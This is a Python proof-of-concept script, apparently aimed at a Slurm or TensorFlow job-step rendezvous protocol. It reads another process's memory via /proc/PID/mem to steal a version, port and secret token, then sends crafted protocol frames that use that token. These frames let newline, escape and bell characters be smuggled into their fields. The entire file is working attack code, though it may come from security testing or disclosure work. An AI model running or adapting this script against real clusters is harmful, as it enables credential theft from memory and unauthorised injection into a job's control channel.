#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""
What root of a node of a step can do: take the step's token from the memory of a process, and speak the protocol.

    hostile.py PID                  print version, port and token that a task's process has in its environment
    hostile.py HOST VERSION PORT TOKEN KEY=VALUE...         send a frame with these strings

In a value \\n, \\e and \\a are these characters. Prints "closed", or the number of bytes that come back, within ten
seconds.
"""
import re
import socket
import struct
import sys

ESCAPES = {"\\n": "\n", "\\e": "\33", "\\a": "\a"}
CONTACT = re.compile(rb"SLURM_TF_RENDEZVOUS=(\d+ \d+ [0-9a-f]{32}) ")


def contact(pid):
    """Version, port and token."""
    with open(f"/proc/{pid}/maps", encoding="ascii") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in maps:
            begin, end = (int(number, 16) for number in line.split()[0].split("-"))
            if " rw" not in line:
                continue
            try:
                memory.seek(begin)
                found = CONTACT.search(memory.read(end - begin))
            except (OSError, ValueError, OverflowError):
                continue
            if found:
                return found[1].decode()
    sys.exit("no token")


def send(host, version, port, token, *strings):
    """What comes back."""
    text = "".join(string + "\0" for string in [f"TOKEN={token}", "RELEASE=1", *strings])
    for escape, character in ESCAPES.items():
        text = text.replace(escape, character)
    body = text.encode()
    with socket.create_connection((host, int(port)), timeout=10) as connection:
        connection.sendall(b"SpTF" + struct.pack(">HHI", int(version), 0, len(body)) + body)
        return len(connection.recv(65536)) or "closed"


if __name__ == "__main__":
    print(contact(*sys.argv[1:]) if len(sys.argv) == 2 else send(*sys.argv[1:]))
